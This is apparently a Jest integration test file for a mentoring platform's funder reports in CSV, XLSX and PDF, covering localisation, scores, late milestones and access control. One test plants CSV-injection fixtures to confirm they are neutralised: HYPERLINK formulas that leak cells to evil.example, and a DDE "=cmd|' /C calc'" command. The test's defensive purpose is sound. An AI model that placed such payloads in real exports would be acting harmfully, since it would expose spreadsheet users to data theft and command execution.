import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import ExcelJS from 'exceljs';
import { join } from 'node:path';
import { ASSESSMENT_PHASES, PAIR_STATUSES, PLAN_STATES, WORK_STATUSES } from '@citymentor/contracts';
import { ConsortiumMilestone, Programme } from '@citymentor/domain';
import { loadReportData } from '../../apps/worker/src/reports/report-data';
import { GivenPlans } from '../support/given-plans';
import type { TestApp } from '../support/app';
import { parseCsv } from '../support/csv';
import { startFilesWorld, until, type FilesWorld } from './worker-harness';

/**
 * The internal codes found in cells: a cell that is a state, status, phase, benchmark or section code, or that
 * holds a hyphenated one no English or French sentence has ("in-progress", "changes-requested"). A funder reads words.
 */
function codesIn(cells: unknown[]): string[] {
  const sections = ['strategy', 'access-to-finance', 'comprehensive-support'];
  const codes: string[] = [
    ...PLAN_STATES,
    ...WORK_STATUSES,
    ...PAIR_STATUSES,
    ...ASSESSMENT_PHASES,
    'migrant-entrepreneurs',
    ...sections,
  ];
  const inText = codes.filter((code) => code.includes('-') && code !== 'follow-up');
  return cells
    .filter((c): c is string => typeof c === 'string')
    .filter((c) => codes.includes(c) || inText.some((code) => c.includes(code)));
}

// Building waits on the worker's queue; on a loaded 2-core machine that can take a while.
jest.setTimeout(90_000);

describe('funder reports (CSV, XLSX, PDF) built by the worker', () => {
  let world: FilesWorld;
  let t: TestApp;
  let dir: string;

  beforeAll(async () => {
    world = await startFilesWorld('cm-reports-');
    ({ t, dir } = world);
  });
  afterAll(() => world?.close());

  /** A programme with two pairs (one with Nicosia and Liège), plans, milestones (some late), progress, assessments and a consortium milestone. */
  let built_: ReturnType<typeof build> | undefined;
  /** Built once per file: organisation names are unique. */
  const consortium = () => (built_ ??= build());
  async function build() {
    const w0 = await t.given.world();
    const nicosia = await t.given.organisation('city', 'Λευκωσία', 'CY');
    const liege = await t.given.organisation('city', 'Liège', 'BE');
    const helsinki = await t.given.organisation('city', `Helsinki ${Date.now()}`, 'FI');
    for (const o of [nicosia, liege, helsinki]) await t.given.participant(w0.programme, o);
    const pairA = await t.given.pair(w0.programme, liege, nicosia);
    const pairB = await t.given.pair(w0.programme, helsinki, w0.city);
    const plans = new GivenPlans(t.orm);
    const planA = await plans.plan(pairA, {
      title: 'Guichet unique, "one-stop" shop',
      sectionCodes: ['strategy', 'access-to-finance'],
      state: 'in-progress',
    });
    const [lateA, onTimeA] = await plans.milestones(planA, [
      { title: 'Open the desk, at last', dueDate: '2026-01-15', status: 'in-progress', owner: 'Economic affairs' },
      { title: 'Train advisers', dueDate: '2099-06-30' },
    ]);
    await plans.progress(lateA, w0.people.cityMember.user, {
      percent: 40,
      note: 'Rooms found;\nstaff next',
      evidenceUrls: ['https://example.org/lease.pdf', 'https://example.org/photos'],
    });
    const planB = await plans.plan(pairB, { title: 'Microcredit', state: 'approved' });
    // Less late than "Open the desk" (15 January), so listed after it.
    await plans.milestones(planB, [{ title: 'Sign with the bank', dueDate: '2026-02-01', status: 'blocked' }]);
    // A draft is the city's own unfinished work: it reaches no funder, in no format.
    const draft = await plans.plan(pairB, { title: 'Unsent draft plan', state: 'draft' });
    await plans.milestones(draft, [{ title: 'Draft-only milestone', dueDate: '2025-01-01', status: 'planned' }]);
    await plans.assessment(w0.programme, nicosia, 'baseline', { 'strategy.q1': 0 }, { status: 'submitted' });
    await plans.assessment(w0.programme, nicosia, 'follow-up', { 'strategy.q1': 2 }, { status: 'submitted' });
    // Liège's follow-up is still a draft: no result for the funder yet.
    await plans.assessment(w0.programme, liege, 'baseline', { 'strategy.q1': 1 }, { status: 'submitted' });
    await plans.assessment(w0.programme, liege, 'follow-up', { 'strategy.q1': 2 });
    const em = t.orm.em.fork();
    await em.persistAndFlush(
      new ConsortiumMilestone(em.getReference(Programme, w0.programme.id), 'Final report to the funder', '2027-12-01'),
    );
    return { ...w0, nicosia, liege, helsinki, lateA, onTimeA };
  }

  it('scores only submitted assessments: a draft follow-up is no result for the funder', async () => {
    const c = await consortium();
    const data = await loadReportData(t.orm.em.fork(), c.programme.id, '2026-06-01');
    const strategy = (name: string) =>
      data.scores.find((s) => s.organisationName === name)!.sections.find((x) => x.code === 'strategy');
    expect(strategy('Λευκωσία')).toMatchObject({ baseline: 0, followUp: 100 });
    expect(strategy('Liège')).toMatchObject({ baseline: 50, followUp: null, change: null });
    expect(strategy('Λευκωσία')).toMatchObject({
      title: 'Strategy to enhance a diverse entrepreneurial community',
      change: 100,
    });
  });

  it('leaves drafts out, lists the late milestones most late first and keeps every progress narrative with its evidence', async () => {
    const c = await consortium();
    const data = await loadReportData(t.orm.em.fork(), c.programme.id, '2026-06-01');
    expect(data.plans.map((p) => p.title).sort()).toEqual(['Guichet unique, "one-stop" shop', 'Microcredit']);
    expect(data.planStates).toEqual([
      { state: 'approved', count: 1 },
      { state: 'in-progress', count: 1 },
    ]);
    expect(data.milestones.map((m) => m.milestoneTitle)).not.toContain('Draft-only milestone');
    expect(data.lateMilestones.map((m) => [m.milestoneTitle, m.daysLate])).toEqual([
      ['Open the desk, at last', 137],
      ['Sign with the bank', 120],
    ]);
    expect(data.plans.find((p) => p.title === 'Microcredit')).toMatchObject({
      counts: { milestones: 1, done: 0, inProgress: 0, late: 1 },
      scores: { baseline: null, followUp: null, change: null },
    });
    expect(data.progress).toEqual([
      expect.objectContaining({
        milestoneTitle: 'Open the desk, at last',
        percent: 40,
        note: 'Rooms found;\nstaff next',
        evidenceUrls: ['https://example.org/lease.pdf', 'https://example.org/photos'],
      }),
    ]);
  });

  async function built(token: string, programmeId: string, format: 'csv' | 'pdf' | 'xlsx', locale?: 'en' | 'fr') {
    const api = t.api.as(token);
    const res = await api.post(`/programmes/${programmeId}/reports`, { format, locale }).expect(202);
    expect(res.body).toMatchObject({ format, downloadUrl: null });
    // A free worker may have taken the job before the answer left.
    expect(['queued', 'running']).toContain(res.body.status);
    let report = res.body;
    await until(
      async () => {
        report = (await api.get(`/reports/${res.body.id}`).expect(200)).body;
        return report.status === 'done' || report.status === 'failed';
      },
      50_000,
      `the ${format} report`,
    );
    expect(report).toMatchObject({
      status: 'done',
      progress: 100,
      error: null,
      downloadUrl: `/api/v1/reports/${res.body.id}/download`,
    });
    return report as { id: string; locale: string };
  }

  /** The downloaded file's bytes, with its answer's headers. */
  async function download(token: string, id: string) {
    const res = await t.api
      .as(token)
      .get(`/reports/${id}/download`)
      .buffer(true)
      .parse((r, cb) => {
        const chunks: Buffer[] = [];
        r.on('data', (d: Buffer) => chunks.push(d));
        r.on('end', () => cb(null, Buffer.concat(chunks)));
      })
      .expect(200);
    return { headers: res.headers, body: res.body as Buffer };
  }

  it('writes a CSV with one row per milestone of the plans past draft, in words, with scores (RFC 4180)', async () => {
    const c = await consortium();
    const report = await built(c.people.coordinator.token, c.programme.id, 'csv');
    expect(report).toMatchObject({ locale: 'en' });
    const file = await download(c.people.coordinator.token, report.id);
    expect(file.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(file.headers['content-disposition']).toMatch(/^attachment; filename="report-\d{4}-\d{2}-\d{2}\.csv"$/);
    const text = file.body.toString('utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    const [header, ...rows] = parseCsv(text.slice(1));
    expect(header).toEqual([
      'Mentor city',
      'Mentee city',
      'Benchmark',
      'Sections',
      'Plan',
      'Plan state',
      'Milestone',
      'Owner',
      'Due date',
      'Status',
      'Late',
      'Days late',
      'Latest progress (%)',
      'Latest progress note',
      'Latest progress date',
      'Baseline score (%)',
      'Follow-up score (%)',
      'Change (points)',
    ]);
    const byMilestone = Object.fromEntries(rows.map((r) => [r[6], r]));
    expect(rows).toHaveLength(3); // the draft's milestone is not there
    expect(text).not.toContain('Draft-only milestone');
    expect(byMilestone['Open the desk, at last']).toEqual([
      'Liège',
      'Λευκωσία',
      'Services to promote and support migrant entrepreneurs',
      'Strategy to enhance a diverse entrepreneurial community; Access to finance for migrant entrepreneurs',
      'Guichet unique, "one-stop" shop',
      'In progress',
      'Open the desk, at last',
      'Economic affairs',
      '2026-01-15',
      'In progress',
      'yes',
      expect.stringMatching(/^\d+$/),
      '40',
      'Rooms found;\nstaff next',
      expect.stringMatching(/^\d{4}-\d{2}-\d{2}$/),
      '0',
      '100',
      '100',
    ]);
    expect(byMilestone['Train advisers'].slice(8, 12)).toEqual(['2099-06-30', 'Planned', 'no', '']);
    expect(byMilestone['Train advisers'].slice(12, 15)).toEqual(['', '', '']);
    // Helsinki assessed nothing: no score, no change.
    expect(byMilestone['Sign with the bank'].slice(0, 2)).toEqual([c.helsinki.name, c.city.name]);
    expect(byMilestone['Sign with the bank'].slice(5, 11)).toEqual([
      'Approved',
      'Sign with the bank',
      'Owner',
      '2026-02-01',
      'Blocked',
      'yes',
    ]);
    expect(byMilestone['Sign with the bank'].slice(15)).toEqual(['', '', '']);
    expect(codesIn(rows.flat())).toEqual([]);
  });

  it('writes the CSV in French when asked: headers, states, yes and no', async () => {
    const c = await consortium();
    const report = await built(c.people.coordinator.token, c.programme.id, 'csv', 'fr');
    expect(report.locale).toBe('fr');
    const file = await download(c.people.coordinator.token, report.id);
    const [header, ...rows] = parseCsv(file.body.toString('utf8').slice(1));
    expect(header.slice(0, 3)).toEqual(['Ville mentor', 'Ville accompagnée', 'Référentiel']);
    expect(header.slice(8, 12)).toEqual(['Échéance', 'Statut', 'En retard', 'Jours de retard']);
    expect(header.slice(15)).toEqual(['Score initial (%)', 'Score de suivi (%)', 'Évolution (points)']);
    const byMilestone = Object.fromEntries(rows.map((r) => [r[6], r]));
    expect(byMilestone['Open the desk, at last'].slice(5, 11)).toEqual([
      'En cours',
      'Open the desk, at last',
      'Economic affairs',
      '2026-01-15',
      'En cours',
      'oui',
    ]);
    expect(byMilestone['Train advisers'].slice(9, 11)).toEqual(['Prévu', 'non']);
    expect(byMilestone['Sign with the bank'][5]).toBe('Approuvé');
    expect(codesIn(rows.flat())).toEqual([]);
  });

  it('refuses a locale it cannot write, naming the field', async () => {
    const c = await consortium();
    for (const locale of ['de', null, 3, ['fr']]) {
      const res = await t.api
        .as(c.people.coordinator.token)
        .post(`/programmes/${c.programme.id}/reports`, { format: 'csv', locale })
        .expect(400);
      expect(JSON.stringify(res.body)).toContain('locale');
    }
  });

  /** Every sheet of a downloaded workbook as rows of cell values (index 0 is the header row). */
  async function readXlsx(token: string, id: string) {
    const file = await download(token, id);
    expect(file.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(file.headers['content-disposition']).toMatch(/^attachment; filename="report-\d{4}-\d{2}-\d{2}\.xlsx"$/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(file.body as unknown as ArrayBuffer);
    const sheets = new Map<string, { ws: ExcelJS.Worksheet; rows: ExcelJS.CellValue[][] }>();
    workbook.eachSheet((ws) => {
      const rows: ExcelJS.CellValue[][] = [];
      ws.eachRow({ includeEmpty: true }, (row) => {
        rows.push(Array.from({ length: ws.columnCount }, (_, i) => row.getCell(i + 1).value));
      });
      sheets.set(ws.name, { ws, rows });
    });
    return { names: workbook.worksheets.map((ws) => ws.name), sheets };
  }

  it('writes an XLSX: a sheet per table and the dictionary, frozen headers, dates as dates, numbers as numbers', async () => {
    const c = await consortium();
    const report = await built(c.people.coordinator.token, c.programme.id, 'xlsx');
    const { names, sheets } = await readXlsx(c.people.coordinator.token, report.id);
    expect(names).toEqual(['Summary', 'Scores', 'Plans', 'Milestones', 'Progress', 'Consortium milestones', 'Columns']);
    for (const { ws } of sheets.values()) {
      expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      expect(ws.getColumn(1).width).toBeGreaterThan(10);
    }
    const rowsOf = (name: string) => {
      const [header, ...rows] = sheets.get(name)!.rows;
      return { header, rows, by: (col: number, value: string) => rows.find((r) => r[col] === value)! };
    };

    const summary = rowsOf('Summary');
    expect(summary.by(0, 'Programme')[1]).toBe(c.programme.name);
    expect(summary.by(0, 'Situation on')[1]).toBeInstanceOf(Date);
    expect(summary.by(0, 'Plans (drafts left out)')[1]).toBe(2);
    expect(summary.by(0, 'Plans: Approved')[1]).toBe(1);
    expect(summary.by(0, 'Milestones late')[1]).toBe(2);

    const scores = rowsOf('Scores');
    expect(scores.header).toEqual([
      'City',
      'Benchmark',
      'Section',
      'Baseline score (%)',
      'Follow-up score (%)',
      'Change (points)',
    ]);
    const nicosiaStrategy = scores.rows.find(
      (r) => r[0] === 'Λευκωσία' && r[2] === 'Strategy to enhance a diverse entrepreneurial community',
    );
    expect(nicosiaStrategy?.slice(3)).toEqual([0, 100, 100]);
    const liegeStrategy = scores.rows.find(
      (r) => r[0] === 'Liège' && r[2] === 'Strategy to enhance a diverse entrepreneurial community',
    );
    expect(liegeStrategy?.slice(3)).toEqual([50, null, null]); // the draft follow-up is no result

    const plans = rowsOf('Plans');
    expect(plans.rows.map((r) => r[3]).sort()).toEqual(['Guichet unique, "one-stop" shop', 'Microcredit']);
    expect(plans.by(3, 'Microcredit').slice(4)).toEqual([
      'Approved',
      'Provide comprehensive support to migrant entrepreneurs',
      1,
      0,
      0,
      1,
      null,
      null,
      null,
    ]);

    const milestones = rowsOf('Milestones');
    expect(milestones.rows).toHaveLength(3);
    const desk = milestones.by(6, 'Open the desk, at last');
    expect(desk[8]).toEqual(new Date('2026-01-15T00:00:00Z'));
    expect(desk.slice(9, 11)).toEqual(['In progress', 'yes']);
    expect(typeof desk[11]).toBe('number');
    expect(desk[12]).toBe(40);
    expect(desk[14]).toBeInstanceOf(Date);
    expect(desk.slice(15)).toEqual([0, 100, 100]);
    expect(sheets.get('Milestones')!.ws.getColumn(9).numFmt).toBe('d mmm yyyy');

    const progress = rowsOf('Progress');
    expect(progress.rows).toHaveLength(1);
    expect(progress.rows[0].slice(3)).toEqual([
      'Open the desk, at last',
      expect.any(Date),
      40,
      'In progress',
      'Rooms found;\nstaff next',
      'https://example.org/lease.pdf\nhttps://example.org/photos',
    ]);

    const consortiumSheet = rowsOf('Consortium milestones');
    expect(consortiumSheet.rows).toEqual([
      ['Final report to the funder', new Date('2027-12-01T00:00:00Z'), 'Planned', 'no', null],
    ]);

    const dictionary = rowsOf('Columns');
    expect(dictionary.header).toEqual(['Sheet', 'Column', 'Meaning', 'Type']);
    for (const name of ['Scores', 'Plans', 'Milestones', 'Progress', 'Consortium milestones']) {
      const headers = rowsOf(name).header;
      expect(dictionary.rows.filter((r) => r[0] === name).map((r) => r[1])).toEqual(headers);
    }

    const cells = [...sheets.values()].flatMap(({ rows }) => rows.flat());
    expect(cells).not.toContain('Draft-only milestone');
    expect(cells).not.toContain('Unsent draft plan');
    expect(codesIn(cells)).toEqual([]);
  });

  it('writes the XLSX in French: sheet names, headers, words and date format', async () => {
    const c = await consortium();
    const report = await built(c.people.expert.token, c.programme.id, 'xlsx', 'fr');
    const { names, sheets } = await readXlsx(c.people.expert.token, report.id);
    expect(names).toEqual(['Synthèse', 'Scores', 'Plans', 'Jalons', 'Avancement', 'Jalons du consortium', 'Colonnes']);
    const [header, ...rows] = sheets.get('Jalons')!.rows;
    expect(header.slice(8, 12)).toEqual(['Échéance', 'Statut', 'En retard', 'Jours de retard']);
    const desk = rows.find((r) => r[6] === 'Open the desk, at last')!;
    expect(desk.slice(9, 11)).toEqual(['En cours', 'oui']);
    expect(sheets.get('Jalons')!.ws.getColumn(9).numFmt).toBe('dd/mm/yyyy');
    expect(sheets.get('Synthèse')!.rows.find((r) => r[0] === 'Plans : Approuvé')?.[1]).toBe(1);
    expect(sheets.get('Colonnes')!.rows[0]).toEqual(['Feuille', 'Colonne', 'Signification', 'Type']);
    expect(codesIn([...sheets.values()].flatMap((s) => s.rows.flat()))).toEqual([]);
  });

  it('keeps titles a spreadsheet would run as formulas as text (CSV injection), with every character', async () => {
    const w0 = await t.given.world();
    const mentor = await t.given.organisation(
      'city',
      `=HYPERLINK("http://evil.example/?c="&A1,"Mentor ${Date.now()}")`,
      'FI',
    );
    await t.given.participant(w0.programme, mentor);
    const pair = await t.given.pair(w0.programme, mentor, w0.city);
    const plans = new GivenPlans(t.orm);
    const planTitle = '=HYPERLINK("http://evil.example/?leak="&B2,"Open the plan")';
    const plan = await plans.plan(pair, { title: planTitle, state: 'in-progress' });
    const titles = [
      '+1+2 more desks',
      '-2+3 rooms',
      '@SUM(A1:A9)',
      '\t=1+1 tabbed',
      '\r=1+1 after a CR',
      'Plan = budget + staff',
    ];
    const milestones = await plans.milestones(
      plan,
      titles.map((title, i) => ({ title, dueDate: '2099-06-30', owner: i === 0 ? "=cmd|' /C calc'!A0" : 'Owner' })),
    );
    await plans.progress(milestones[0], w0.people.cityMember.user, { percent: 10, note: '=1+1, "quoted"' });

    const report = await built(w0.people.coordinator.token, w0.programme.id, 'csv');
    const file = await t.api
      .as(w0.people.coordinator.token)
      .get(`/reports/${report.id}/download`)
      .buffer(true)
      .parse((res, cb) => {
        const chunks: Buffer[] = [];
        res.on('data', (d: Buffer) => chunks.push(d));
        res.on('end', () => cb(null, Buffer.concat(chunks)));
      })
      .expect(200);
    const text = (file.body as Buffer).toString('utf8');
    // Every cell that starts a formula is quoted and starts with a single quote, in the raw file…
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&B2,""Open the plan"")"`);
    const [, ...rows] = parseCsv(text.slice(1));
    expect(rows).toHaveLength(titles.length);
    const cells = rows.flat();
    const formulaLike = /^[=+\-@\t\r]/;
    expect(cells.filter((c) => formulaLike.test(c))).toEqual([]);
    // …and, once parsed, reads as that quote followed by exactly what was typed.
    const byMilestone = Object.fromEntries(rows.map((r) => [r[6], r]));
    for (const title of titles.slice(0, 5)) {
      const row = byMilestone[`'${title}`];
      expect(row).toBeDefined();
      expect(row[4]).toBe(`'${planTitle}`);
      expect(row[0]).toBe(`'${mentor.name}`);
    }
    expect(byMilestone['Plan = budget + staff']).toBeDefined();
    expect(byMilestone["'+1+2 more desks"].slice(7, 8)).toEqual(["'=cmd|' /C calc'!A0"]);
    expect(byMilestone["'+1+2 more desks"][13]).toBe(`'=1+1, "quoted"`);

    // In the XLSX every such text is a text cell holding exactly what was typed, never a formula.
    const xlsx = await built(w0.people.coordinator.token, w0.programme.id, 'xlsx');
    const { sheets } = await readXlsx(w0.people.coordinator.token, xlsx.id);
    const [, ...sheetRows] = sheets.get('Milestones')!.rows;
    // (XML reads a bare carriage return as a line feed: the one change a workbook makes to a text.)
    expect(sheetRows.map((r) => r[6]).sort()).toEqual(titles.map((title) => title.replace(/\r/g, '\n')).sort());
    expect(sheetRows.every((r) => r[4] === planTitle && r[0] === mentor.name)).toBe(true);
    const formulas = [...sheets.values()].flatMap(({ ws }) => {
      const found: string[] = [];
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula) found.push(cell.address);
        }),
      );
      return found;
    });
    expect(formulas).toEqual([]);
  });

  /** The text of a built PDF report, as pdftotext reads it. */
  async function pdfText(token: string, id: string) {
    const file = await download(token, id);
    expect(file.headers['content-type']).toBe('application/pdf');
    const pdf = join(dir, `check-${id}.pdf`);
    writeFileSync(pdf, file.body);
    return { pdf, text: execFileSync('pdftotext', ['-enc', 'UTF-8', pdf, '-'], { encoding: 'utf8' }) };
  }

  it('writes a PDF: a cover with key figures, pairs, scores, late milestones most late first, numbered pages', async () => {
    const c = await consortium();
    const report = await built(c.people.expert.token, c.programme.id, 'pdf');
    const { pdf, text } = await pdfText(c.people.expert.token, report.id);
    // The cover
    expect(text).toContain('Report for the funder');
    expect(text).toContain(c.programme.name);
    expect(text).toMatch(/Programme period: \d{1,2} [A-Z][a-z]+ \d{4} – \d{1,2} [A-Z][a-z]+ \d{4}/);
    expect(text).toContain('2 mentoring pairs');
    expect(text).toContain('2 plans — Approved: 1 · In progress: 1');
    expect(text).toContain('3 milestones — 0 done · 1 in progress · 2 late');
    expect(text).toContain('2 cities with a submitted self-assessment');
    // The pairs, in their own scripts, with their plans counted in words
    expect(text).toContain('Liège → Λευκωσία');
    expect(text).toContain(c.helsinki.name);
    expect(text).toContain(c.city.name);
    expect(text).toContain('1 plan · 2 milestones');
    expect(text).toContain('1 plan · 1 milestone');
    expect(text).not.toContain('plan(s)');
    // Scores, with the change
    expect(text).toContain('Self-assessment scores: baseline and follow-up');
    expect(text).toContain('Strategy to enhance a diverse entrepreneurial community');
    expect(text).toContain('+100');
    // Late milestones, most late first: the draft's (the latest of all) is not there
    const late = text.indexOf('Late milestones, most late first (2)');
    expect(late).toBeGreaterThan(0);
    const desk = text.indexOf('Open the desk, at last', late);
    const bank = text.indexOf('Sign with the bank', late);
    expect(desk).toBeGreaterThan(late);
    expect(bank).toBeGreaterThan(desk);
    expect(text).toContain('15 January 2026');
    expect(text).toMatch(/\d+ days late/);
    expect(text).not.toContain('Draft-only milestone');
    expect(text).not.toContain('Unsent draft plan');
    // Progress with its evidence, the consortium's milestones
    expect(text).toContain('https://example.org/lease.pdf');
    expect(text).toContain('Final report to the funder');
    expect(text).toContain('1 December 2027');
    // Words, not codes
    expect(text).not.toMatch(
      /in-progress|changes-requested|migrant-entrepreneurs|access-to-finance|comprehensive-support/,
    );
    // Every page numbered
    const pages = Number(/Page 1 of (\d+)/.exec(text)?.[1]);
    expect(pages).toBeGreaterThan(1);
    for (let page = 1; page <= pages; page++) expect(text).toContain(`Page ${page} of ${pages}`);
    const fonts = execFileSync('pdffonts', [pdf], { encoding: 'utf8' });
    expect(fonts).toMatch(/DejaVuSans.*yes/); // embedded
  });

  it('writes the PDF in French: words, plurals, dates and page numbers', async () => {
    const c = await consortium();
    const report = await built(c.people.coordinator.token, c.programme.id, 'pdf', 'fr');
    const { text } = await pdfText(c.people.coordinator.token, report.id);
    expect(text).toContain('Rapport pour le financeur');
    expect(text).toContain('2 binômes de mentorat');
    expect(text).toContain('2 plans — Approuvé : 1 · En cours : 1');
    expect(text).toContain('1 plan · 1 jalon');
    expect(text).toContain('Jalons en retard, du plus en retard au moins en retard (2)');
    expect(text).toContain('15 janvier 2026');
    expect(text).toContain('1er décembre 2027');
    expect(text).toMatch(/\d+ jours de retard/);
    expect(text).toMatch(/Page 1 sur \d+/);
    expect(text).not.toContain('Late milestones');
  });

  it('lets only those who see the dashboard ask for, see and download reports', async () => {
    const c = await consortium();
    const as = (who: keyof typeof c.people) => t.api.as(c.people[who].token);
    await as('cityMember').post(`/programmes/${c.programme.id}/reports`, { format: 'csv' }).expect(403);
    await as('outsider').post(`/programmes/${c.programme.id}/reports`, { format: 'csv' }).expect(404);
    await as('coordinator').post(`/programmes/${c.programme.id}/reports`, { format: 'xls' }).expect(400);
    const report = await built(c.people.admin.token, c.programme.id, 'csv');
    await as('coordinator').get(`/reports/${report.id}`).expect(200);
    await as('cityMember').get(`/reports/${report.id}`).expect(403);
    await as('cityMember').get(`/reports/${report.id}/download`).expect(403);
    await as('outsider').get(`/reports/${report.id}`).expect(404);
    await as('outsider').get(`/reports/${report.id}/download`).expect(404);
    await as('coordinator').get('/reports/00000000-0000-4000-8000-000000000000').expect(404);
    await t.api.get(`/reports/${report.id}`).expect(401);
  });

  it('answers 409 for the download of a report not built yet', async () => {
    const c = await consortium();
    await t.orm.em
      .fork()
      .getConnection()
      .execute(
        `insert into reports (id, programme_id, requested_by_id, format, status, progress, created_at) values ('11111111-1111-4111-8111-111111111111', ?, ?, 'pdf', 'running', 40, now())`,
        [c.programme.id, c.people.coordinator.user.id],
      );
    const res = await t.api
      .as(c.people.coordinator.token)
      .get('/reports/11111111-1111-4111-8111-111111111111/download')
      .expect(409);
    expect(res.body.message).toMatch(/running/);
  });
});
